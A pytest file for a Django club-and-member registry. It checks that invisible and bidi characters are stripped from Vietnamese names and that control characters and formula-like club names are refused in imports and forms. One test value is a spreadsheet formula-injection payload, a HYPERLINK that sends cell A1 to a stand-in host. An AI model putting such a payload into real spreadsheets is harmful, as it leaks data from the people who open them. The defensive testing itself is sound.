"""Issue 15: text cleaned once, at the edge. Zero-width and bidi characters are removed from names
before they are matched or stored (they slipped past the duplicate check and search); control
characters are refused in forms and imports; club names get the checks member names get."""

from __future__ import annotations

import pytest
from django.urls import reverse

from clubs.models import Club
from members.models import Member
from places.text import nfc, search_key
from sheets.engine import run_import
from tests.conftest import make_member
from tests.corpus import hostile
from tests.sheets.builders import write_xlsx
from tests.snapshots import changed_tables, db_snapshot

pytestmark = pytest.mark.django_db

HIDDEN = "\u200b\u200c\u200d\ufeff\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@pytest.mark.parametrize("character", list(HIDDEN), ids=lambda c: f"U+{ord(c):04X}")
def test_invisible_characters_do_not_make_another_name(character):
    assert search_key(f"Lò Thị{character} Lan") == search_key("Lò Thị Lan") == "lo thi lan"
    assert nfc(f"Lò{character} Thị Lan") == "Lò Thị Lan"


def test_an_import_matches_the_member_behind_a_zero_width_space_and_stores_the_clean_name(club, tmp_path):
    lan = make_member(club, full_name="Lò Thị Lan", birth_year=1950, sex="F")
    rows = [["Họ và tên", "Năm sinh", "Giới tính"], ["Lò Thị\u200b La\u202dn", 1950, "Nữ"],
            ["Lò\u2066 Văn Mới\u2069", 1951, "Nam"]]  # fmt: skip
    report = run_import("members", write_xlsx(tmp_path / "ds.xlsx", rows), club=club, commit=True)
    assert report.committed, report.errors
    assert Member.objects.filter(club=club).count() == 2  # Lan found again, one new member
    assert sorted(Member.objects.values_list("full_name", flat=True)) == ["Lò Thị Lan", "Lò Văn Mới"]
    lan.refresh_from_db()
    assert lan.full_name == "Lò Thị Lan"


def test_name_search_finds_a_name_typed_with_a_zero_width_joiner(client_for, staff, club):
    make_member(club, full_name="Lò Thị Lan", birth_year=1950)
    response = client_for(staff).get(reverse("members:member-list"), {"q": "Lò\u200d Thị Lan"})
    assert "Lò Thị Lan" in response.content.decode()


def test_a_club_name_that_is_a_formula_is_refused_by_the_import(club, tmp_path):
    rows = [["Mã CLB", "Tên CLB", "Tỉnh", "Xã/Phường", "Ngày quyết định"],
            ["LCH-TU-07", '=HYPERLINK("http://x/?"&A1,"Bấm")', "Lai Châu", "Tân Uyên", "01/02/2020"]]  # fmt: skip
    before = db_snapshot()
    # Written as text (a library would write a formula, which a reader sees as its empty result).
    path = hostile.write_raw_xlsx(tmp_path / "clb.xlsx", hostile.sheet_xml(hostile.member_rows(rows=rows)))
    report = run_import("clubs", path, commit=True)
    assert "Tên CLB “=HYPERLINK(" in " ".join(issue.message for issue in report.errors)
    assert changed_tables(before, db_snapshot()) == []


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ('=HYPERLINK("http://x/?"&A1,"Bấm")', "bắt đầu bằng dấu = như một công thức bảng tính"),
        ("CLB bản\x07 Nà", "Tên CLB có ký tự điều khiển không in được (mã U+0007"),
        ("CLB bản\x00 Nà", "Không được có ký tự rỗng (NUL, mã 0)"),
    ],
)
def test_the_club_form_checks_the_name_like_a_member_name(name, message, client_for, admin_user, club):
    client = client_for(admin_user)
    url = reverse("clubs:club-edit", args=[club.pk])
    form = client.get(url).context["form"]
    data = {key: value for key, value in form.initial.items() if value is not None}
    data |= {"name": name, "commune": club.commune_id}
    before = db_snapshot()
    response = client.post(url, data)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert changed_tables(before, db_snapshot()) == []
    assert Club.objects.get(pk=club.pk).name == club.name
